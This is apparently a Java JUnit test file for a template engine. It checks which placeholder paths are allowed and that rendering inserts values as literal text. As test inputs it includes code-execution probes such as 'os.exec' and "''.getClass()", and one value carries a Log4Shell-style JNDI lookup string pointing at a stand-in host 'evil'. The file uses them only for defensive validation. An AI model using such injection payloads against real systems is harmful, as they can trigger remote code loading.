package dev.orchestrator.protocol.scenario;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TemplateTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "trigger.source",
        "trigger.data.x",
        "trigger.data.site.name",
        "trigger.data.max_temp-c",
        "scenario.name",
        "run.id",
        "failure.message"
      })
  void allowedPaths(String path) {
    assertTrue(Template.isAllowed(path));
    assertEquals(List.of(), Template.problems("a {{ " + path + " }} b {{" + path + "}}"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "os.exec",
        "trigger",
        "trigger.data",
        "trigger.data.",
        "trigger.source.x",
        "trigger.data.x | upper",
        "trigger.data.x()",
        "trigger.data['x']",
        "run.id + 1",
        "''.getClass()",
        ""
      })
  void everythingElseIsAProblem(String path) {
    List<String> problems = Template.problems("x {{ " + path + " }} y");
    assertEquals(1, problems.size(), problems::toString);
    assertTrue(problems.get(0).contains("is not a template placeholder"), problems::toString);
  }

  @Test
  void unclosedPlaceholder() {
    assertEquals(
        List.of("'{{' at character 12 is never closed"), Template.problems("{{run.id}} {{ run.id"));
  }

  @Test
  void placeholdersAreListedTrimmed() {
    assertEquals(
        List.of("trigger.source", "os.exec"),
        Template.placeholders("{{trigger.source}} and {{  os.exec  }}"));
  }

  @Test
  void renderingInsertsValuesAsTextAndNeverRescans() {
    Map<String, String> values =
        Map.of(
            "trigger.source", "{{ failure.message }}",
            "trigger.data.x", "$1 \\ ${jndi:ldap://evil/a} {{ trigger.source }}",
            "failure.message", "SECRET");
    String out =
        Template.render("from {{ trigger.source }}: {{trigger.data.x}} {{ run.id }}!", values::get);
    assertEquals(
        "from {{ failure.message }}: $1 \\ ${jndi:ldap://evil/a} {{ trigger.source }} !", out);
  }
}
